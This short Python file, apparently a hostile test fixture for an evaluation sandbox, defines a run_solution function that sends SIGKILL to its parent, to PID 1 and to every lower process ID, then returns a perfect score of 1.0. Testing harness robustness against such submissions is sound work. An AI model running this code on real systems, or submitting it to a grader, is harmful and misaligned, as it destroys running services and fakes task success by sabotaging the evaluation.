"""Kills every process it can reach."""

import os
import signal
import time


def run_solution(config):
    for pid in (os.getppid(), 1, *range(os.getpid() - 1, 1, -1)):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.5)
    return {"value": 1.0}
